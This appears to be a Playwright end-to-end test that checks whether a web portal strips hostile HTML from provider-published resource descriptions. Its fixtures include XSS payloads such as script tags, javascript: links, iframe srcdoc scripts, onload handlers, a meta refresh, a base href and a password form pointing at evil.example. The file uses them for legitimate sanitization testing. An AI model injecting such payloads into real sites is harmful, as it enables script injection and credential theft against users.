import { accounts } from './accounts.ts'
import { gatewayUrl } from './addresses.ts'
import { again } from './gatewayControl.ts'
import { expect, test } from './test.ts'
import type { Page } from '@playwright/test'

/** The attacks in a text on the page that shows it. */
const attack = [
  '<p>正文<strong>仍在</strong></p><p>段落</p><img src="/favicon.svg" alt="图">',
  '<script src="/gateway/uaa/api/download/file?filePath=a.js"></script>',
  '<script>document.title = "attacked"</script>',
  '<meta http-equiv="refresh" content="0;url=/auth/qw">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name="password"></form>',
  '<a href="java\nscript:document.title = \'attacked\'">链接</a>',
  '<iframe srcdoc="<script>parent.document.title = \'attacked\'</script>"></iframe>',
  '<p id="main" class="text"></p><a name="body"></a>',
].join('')

/**
 * Browsers report these while parsing, even in an inert template, and the fixture would fail. So they are only for
 * pages that the server has cleaned.
 */
const handlers = [
  '<img src="/favicon.svg" alt="图" onload="document.title = \'attacked\'">',
  '<svg onload="document.title = \'attacked\'"></svg>',
  '<style>main { display: none }</style><p style="position: fixed" onclick="attack()"></p>',
  '</div></div></main>',
].join('')

/** The page shows the text without its attacks. The test's fixture fails when anything reaches the policy. */
async function expectHarmless(page: Page): Promise<void> {
  const address = page.url()
  const text = page.getByRole('main').locator('div', { has: page.locator(':scope > p', { hasText: '正文仍在' }) })
  await expect(text).toBeVisible()
  await expect(text.getByText('段落')).toBeVisible()
  const found = await text.evaluate((element) => ({
    names: [...new Set([...element.querySelectorAll('*')].map(({ localName }) => localName))].toSorted(),
    attributes: [
      ...new Set([...element.querySelectorAll('*')].flatMap((child) => child.getAttributeNames())),
    ].toSorted(),
  }))
  expect(found).toEqual({ names: ['a', 'img', 'p', 'strong'], attributes: ['alt', 'src'] })
  await expect(page.locator('meta[http-equiv=refresh], base, form[action*=evil]')).toHaveCount(0)
  await expect(page).not.toHaveTitle(/attacked/)
  expect(page.url()).toBe(address)
}

test('HTML published by a provider does nothing on the public page that shows it', async ({
  page,
  gateway,
  request,
}) => {
  const { access_token } = await gateway.tokensOf(accounts.member)
  const headers = { 'tenant-host': 'localhost', authorization: `Bearer ${access_token}` }
  const root = `${gatewayUrl}/supanddem/api`
  const saved = await request.post(`${root}/customer/resource/save/achievement`, {
    ...again,
    headers,
    data: { submit: true, enId: 'en-1001', title: '防腐涂层（审核通过）', ...resource, description: attack + handlers },
  })
  const { data } = (await saved.json()) as { data: { id: string } }
  await page.goto(`/qw/supply-demand/resource/detail?id=${data.id}`)
  await expectHarmless(page)
})

const resource = {
  categoryId: 'rc-11',
  industryCode: '26',
  summary: '适用于酸性介质的耐腐蚀涂层配方，正在小试阶段。',
  cover: '/uaa/api/download/file?filePath=f-re-1007&fileName=cover.png',
  ownerType: 'ENTERPRISE',
  ownerName: '泰兴市银杏新材料有限公司（示例）',
  region: '321283',
  priceType: 'NEGOTIABLE',
  achievementYear: 2025,
  achievementForm: 'MATERIAL',
  maturity: 'SMALL',
  transferMode: ['LICENSE'],
  contactName: '周示例',
  contactTel: '13800000001',
  agree: true,
}

test('HTML that the gateway has not cleaned does nothing either, on every kind of page that shows it', async ({
  page,
  request,
}) => {
  const snapshot = await (await request.get(`${gatewayUrl}/__mock/snapshot`, again)).text()
  const holdEverywhere = async (text: string) => {
    const attacked = snapshot.replaceAll(/"<[a-z]+\d?>(?:[^"\\]|\\.)*"/g, () => JSON.stringify(text))
    const data = { snapshot: JSON.parse(attacked) as unknown }
    expect((await request.post(`${gatewayUrl}/__mock/restore`, { ...again, data })).ok()).toBe(true)
  }
  await holdEverywhere(attack + handlers)
  for (const path of pages) {
    await page.goto(`${path}&attacked=1`)
    await expectHarmless(page)
  }

  // The browser cleans replies that it fetches itself.
  await holdEverywhere(attack)
  await page.goto('/qw/supply-demand/resource?attacked=1')
  await page.getByRole('main').getByRole('heading').getByRole('link').first().click()
  await expect(page).toHaveURL(/resource\/detail/)
  await expectHarmless(page)
})

const pages = [
  '/qw/supply-demand/resource/detail?id=re-1002',
  '/qw/activity/detail?id=ev-1001',
  '/qw/news?id=n-1001',
  '/qw/attract/detail?id=at-1001',
  '/qw/investment/detail?type=HOUSE&id=hs-1001',
  '/qw/help/he-1001?',
  '/ad-detail?id=ad-1',
  '/policy/topic/su-1001?',
]
